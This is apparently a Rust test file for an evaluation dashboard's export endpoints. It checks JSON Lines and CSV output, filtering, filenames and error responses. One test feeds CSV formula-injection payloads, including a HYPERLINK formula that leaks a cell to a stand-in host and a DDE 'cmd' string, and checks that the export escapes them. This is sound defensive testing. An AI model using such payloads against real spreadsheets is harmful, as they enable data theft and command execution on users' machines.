//! Exports of a run's items, read back and compared with the items endpoint.

use evalboard_persistence::testing::TestDatabase;
use serde_json::{Value, json};

use crate::support::{TestApp, api_tests, app_bounds, app_with_engine, import, items};

/// Every item of a run through the paged items endpoint, in sequence order.
async fn items_endpoint(app: &TestApp<app_bounds!()>, run: &str) -> Vec<Value> {
    let mut all = Vec::new();
    let mut uri = format!("/runs/{run}/items?groupBy=none&limit=200");
    loop {
        let page = app.get(&uri).await.ok(200);
        all.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["nextCursor"].as_str() {
            Some(cursor) => {
                uri = format!("/runs/{run}/items?groupBy=none&limit=200&cursor={cursor}")
            }
            None => return all,
        }
    }
}

/// A CSV file's header and rows.
fn read_csv(body: &[u8]) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::Reader::from_reader(body);
    let columns = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    (columns, reader.records().map(Result::unwrap).collect())
}

/// The CSV cell of an item field, as the export writes it.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(_) => value.to_string(),
        other => other.to_string(),
    }
}

async fn a_runs_items_export_as_jsonl_and_csv_equal_to_the_items_endpoint(db: TestDatabase) {
    // More items than one export page (500), some failed, some unparsed.
    import(&db, "Demo", &items(1_100));
    let app = app_with_engine(db).await;
    let created = app
        .post_json(
            "/runs",
            &json!({"providerName": "Simulated", "datasetName": "Demo", "modelName": "sim-1",
                    "settings": {"concurrency": 64, "maxAttempts": 1,
                                 "simulated": {"faultRate": 0.05, "unparsedRate": 0.1, "seed": 4}}}),
        )
        .await
        .ok(201);
    let id = created["run"]["id"].as_str().unwrap().to_owned();
    app.wait_until(&format!("/runs/{id}"), |r| {
        r["run"]["status"] == "completed"
    })
    .await;
    let expected = items_endpoint(&app, &id).await;
    assert_eq!(expected.len(), 1_100);
    // An attempt the server sent was on no page of a Browser Harness.
    assert_eq!(expected[0]["attempts"][0]["page"], Value::Null);

    let jsonl = app.get(&format!("/runs/{id}/export")).await;
    assert_eq!(jsonl.status, 200);
    assert_eq!(jsonl.header("content-type"), Some("application/x-ndjson"));
    assert_eq!(
        jsonl.header("content-disposition"),
        Some(format!("attachment; filename=\"{id}-items.jsonl\"").as_str())
    );
    // Each line is the items endpoint's item with its run's id first (exports of several runs
    // concatenate into one table).
    let lines: Vec<Value> = String::from_utf8(jsonl.body.clone())
        .unwrap()
        .lines()
        .map(|line| {
            assert!(
                line.starts_with(&format!("{{\"runId\":\"{id}\",")),
                "{line}"
            );
            let mut item: Value = serde_json::from_str(line).unwrap();
            item.as_object_mut().unwrap().remove("runId");
            item
        })
        .collect();
    assert_eq!(
        lines, expected,
        "the JSON Lines export is the items endpoint's items"
    );

    let csv = app.get(&format!("/runs/{id}/export?format=csv")).await;
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert!(
        csv.header("content-disposition")
            .unwrap()
            .ends_with("-items.csv\"")
    );
    let (columns, rows) = read_csv(&csv.body);
    assert_eq!(rows.len(), expected.len());
    for (row, item) in rows.iter().zip(&expected) {
        for (column, value) in columns.iter().zip(row.iter()) {
            if column == "choices" || column == "attempts" {
                let cell: Value = serde_json::from_str(value).unwrap();
                assert_eq!(
                    cell,
                    item[column.as_str()],
                    "item {} column {column}",
                    item["sequence"]
                );
                continue;
            }
            let want = match column.as_str() {
                "runId" => id.clone(),
                "errorKind" => cell(&item["error"]["kind"]),
                "errorMessage" => cell(&item["error"]["message"]),
                "promptTokens" | "completionTokens" | "reasoningTokens" | "costUsd" => {
                    cell(&item["usage"][column.as_str()])
                }
                timing if item["timings"].get(timing).is_some() => cell(&item["timings"][timing]),
                field => cell(&item[field]),
            };
            assert_eq!(value, want, "item {} column {column}", item["sequence"]);
        }
    }
    assert!(
        rows.iter().any(
            |row| row.get(columns.iter().position(|c| c == "errorKind").unwrap())
                == Some("server_error")
        ),
        "failed items are in the export"
    );

    assert_eq!(columns[0], "runId");

    // Filtered as the items endpoint filters: the failed items, the items of one category.
    for filter in [
        "state=failed",
        "category=math",
        "state=correct,incorrect&category=law",
    ] {
        let listed: Vec<Value> = items_endpoint(&app, &id)
            .await
            .into_iter()
            .filter(|item| match filter {
                "state=failed" => item["state"] == "failed",
                "category=math" => item["category"] == "math",
                _ => {
                    item["category"] == "law"
                        && (item["state"] == "correct" || item["state"] == "incorrect")
                }
            })
            .collect();
        assert!(!listed.is_empty(), "{filter}");
        let csv = app
            .get(&format!("/runs/{id}/export?format=csv&{filter}"))
            .await;
        assert_eq!(csv.status, 200);
        // Saved under a name of its own, not the whole run's.
        assert_eq!(
            csv.header("content-disposition"),
            Some(format!("attachment; filename=\"{id}-items-filtered.csv\"").as_str()),
            "{filter}"
        );
        let (columns, rows) = read_csv(&csv.body);
        let sequence = columns.iter().position(|c| c == "sequence").unwrap();
        let exported: Vec<&str> = rows.iter().map(|row| row.get(sequence).unwrap()).collect();
        let wanted: Vec<String> = listed
            .iter()
            .map(|item| item["sequence"].to_string())
            .collect();
        assert_eq!(exported, wanted, "{filter}");
    }
    app.get(&format!("/runs/{id}/export?state=lost"))
        .await
        .problem(400);
    // Not an empty file for a category none of its items is in (a miscased one): a 422 that
    // names the run's categories.
    let problem = app
        .get(&format!("/runs/{id}/export?format=csv&category=Math"))
        .await
        .problem(422);
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("no item of this run is in category `Math` (its categories: "),
        "{problem}"
    );

    app.get(&format!("/runs/{id}/export?format=xml"))
        .await
        .problem(400);
    app.get("/runs/run-0123456789abcdef0123456789abcdef/export")
        .await
        .problem(404);
    app.stop().await;
}

/// The archive as CSV: every run the filters select, whatever the page size of `GET /runs`,
/// each row agreeing with the run's JSON.
async fn the_archive_exports_as_csv_with_the_lists_filters(db: TestDatabase) {
    import(&db, "Demo", &items(3));
    import(&db, "Other", &items(2));
    let app = crate::support::app(db).await;
    let mut ids = Vec::new();
    for (dataset, model) in [("Demo", "sim-1"), ("Other", "sim-2")]
        .into_iter()
        .cycle()
        .take(130)
    {
        let created = app
            .post_json(
                "/runs",
                &json!({"providerName": "Simulated", "datasetName": dataset, "modelName": model}),
            )
            .await
            .ok(201);
        ids.push(created["run"]["id"].as_str().unwrap().to_owned());
    }
    // Without an engine a cancel ends the run at once, its 3 items canceled.
    app.call(crate::support::json_post(&format!(
        "/runs/{}/cancel",
        ids[128]
    )))
    .await
    .ok(202);
    let reply = app.get("/runs?format=csv").await;
    assert_eq!(reply.status, 200);
    assert_eq!(
        reply.header("content-type"),
        Some("text/csv; charset=utf-8")
    );
    assert_eq!(
        reply.header("content-disposition"),
        Some("attachment; filename=\"runs.csv\"")
    );
    let (columns, rows) = read_csv(&reply.body);
    assert_eq!(
        rows.len(),
        130,
        "more than a page of the JSON list (at most 100)"
    );
    let listed: Vec<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
    let newest_first: Vec<&str> = ids.iter().rev().map(String::as_str).collect();
    assert_eq!(listed, newest_first);
    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
    let first = app.get(&format!("/runs/{}", ids[129])).await.ok(200);
    let row = &rows[0];
    assert_eq!(
        row.get(column("datasetName")),
        first["run"]["datasetName"].as_str()
    );
    assert_eq!(row.get(column("status")), Some("pending"));
    assert_eq!(
        row.get(column("total")),
        Some(first["progress"]["total"].to_string().as_str())
    );
    assert_eq!(row.get(column("createdAt")), first["createdAt"].as_str());
    assert_eq!(
        row.get(column("datasetDigest")),
        first["dataset"]["digest"].as_str()
    );
    assert_eq!(
        row.get(column("fingerprint")),
        first["fingerprint"]["digest"].as_str()
    );
    assert_eq!(row.get(column("judge")), Some("choice"));
    assert_eq!(row.get(column("promptTokens")), Some("0"));
    assert_eq!(row.get(column("costUsd")), Some(""), "no price, no cost");
    let canceled = &rows[1];
    assert_eq!(canceled.get(column("status")), Some("canceled"));
    assert_eq!(
        (
            canceled.get(column("faulted")),
            canceled.get(column("canceled"))
        ),
        (Some("3"), Some("3"))
    );
    assert_eq!(row.get(column("canceled")), Some("0"));

    let filtered = app.get("/runs?format=csv&datasetName=Other").await;
    let filtered_rows = csv::Reader::from_reader(filtered.body.as_slice())
        .records()
        .count();
    assert_eq!(filtered_rows, 65);
    app.get("/runs?format=xml").await.problem(400);
    // Each parameter is well-formed; together they ask for what a CSV export is not.
    for query in ["format=csv&limit=5", "format=csv&cursor=abc"] {
        app.get(&format!("/runs?{query}")).await.problem(422);
    }
}

/// Text a spreadsheet would run as a formula is exported to CSV as text (a leading `'`); a plain
/// number is not, and JSON Lines keeps every text exact.
async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db: TestDatabase) {
    let hyperlink = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"open\")";
    let item = |id: &str, question: &str, answer: &str| evalboard_domain::DatasetItem {
        id: id.into(),
        category: "math".into(),
        question: question.into(),
        choices: Vec::new(),
        answer: evalboard_domain::ItemAnswer::Number(
            evalboard_domain::numeric::Number::parse(answer).unwrap(),
        ),
        explanation: None,
        source: None,
    };
    import(
        &db,
        "Formulas",
        &[
            item("f1", hyperlink, "-3"),
            item("f2", "@SUM(1,2)", "+5"),
            item("f3", "-2+3+cmd|' /C calc'!A0", "0.5"),
            item("f4", "How much is 2 - 5?", "-3"),
        ],
    );
    let app = crate::support::app(db).await;
    let created = app
        .post_json(
            "/runs",
            &json!({"providerName": "Simulated", "datasetName": "Formulas", "modelName": "sim-1"}),
        )
        .await
        .ok(201);
    let id = created["run"]["id"].as_str().unwrap();

    let (columns, rows) = read_csv(&app.get(&format!("/runs/{id}/export?format=csv")).await.body);
    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
    let cells = |name: &str| -> Vec<&str> {
        rows.iter()
            .map(|row| row.get(column(name)).unwrap())
            .collect()
    };
    assert_eq!(
        cells("question"),
        [
            format!("'{hyperlink}").as_str(),
            "'@SUM(1,2)",
            "'-2+3+cmd|' /C calc'!A0",
            "How much is 2 - 5?"
        ]
    );
    let expected = cells("expectedAnswer");
    assert!(
        expected.iter().all(|cell| !cell.starts_with('\'')),
        "numbers are left as they are: {expected:?}"
    );

    let jsonl = app.get(&format!("/runs/{id}/export")).await;
    let first: Value =
        serde_json::from_slice(jsonl.body.split(|&b| b == b'\n').next().unwrap()).unwrap();
    assert_eq!(
        first["question"], hyperlink,
        "JSON Lines keeps the text exact"
    );
}

/// A run still going exports what it has, under a name that says the file is partial: its
/// finished export is not taken for it, nor saved over it.
async fn a_run_still_going_exports_under_a_partial_name(db: TestDatabase) {
    import(&db, "Demo", &items(4));
    // No engine: the run stays pending.
    let app = crate::support::app(db).await;
    let id = app.create_run("Demo", json!({})).await;
    let whole = app.get(&format!("/runs/{id}/export")).await;
    assert_eq!(
        whole.header("content-disposition"),
        Some(format!("attachment; filename=\"{id}-items-partial.jsonl\"").as_str())
    );
    assert_eq!(
        String::from_utf8(whole.body.clone())
            .unwrap()
            .lines()
            .count(),
        4
    );
    let some = app
        .get(&format!("/runs/{id}/export?format=csv&state=pending"))
        .await;
    assert_eq!(
        some.header("content-disposition"),
        Some(format!("attachment; filename=\"{id}-items-filtered-partial.csv\"").as_str())
    );
}

api_tests!(
    a_run_still_going_exports_under_a_partial_name,
    a_runs_items_export_as_jsonl_and_csv_equal_to_the_items_endpoint,
    the_archive_exports_as_csv_with_the_lists_filters,
    csv_cells_that_a_spreadsheet_would_run_are_written_as_text,
);
